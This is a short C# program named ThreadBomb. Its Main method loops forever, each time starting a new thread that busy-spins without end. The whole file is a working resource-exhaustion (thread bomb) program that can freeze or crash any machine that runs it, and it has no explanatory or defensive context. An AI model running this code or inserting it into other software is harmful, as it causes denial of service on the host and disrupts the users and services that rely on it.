using System;
using System.Threading;

class ThreadBomb
{
    static void Main()
    {
        while (true) { new Thread(() => { while (true) { } }).Start(); }
    }
}
